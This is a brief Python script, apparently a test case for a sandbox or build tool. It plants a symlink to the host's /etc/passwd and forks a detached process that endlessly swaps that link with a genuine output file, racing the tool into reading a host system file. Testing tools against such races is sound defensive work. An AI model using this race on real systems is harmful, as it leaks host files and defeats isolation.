"""Swaps a result for a link to a file of the host, again and again, in a process that stays."""

import os
import time

os.makedirs("out")
with open("out/result", "w") as file:
    file.write("result")
os.symlink("/etc/passwd", "out/link")
if os.fork() == 0:
    os.setsid()
    while True:
        os.rename("out/result", "out/other")
        os.rename("out/link", "out/result")
        os.rename("out/other", "out/link")
time.sleep(0.2)
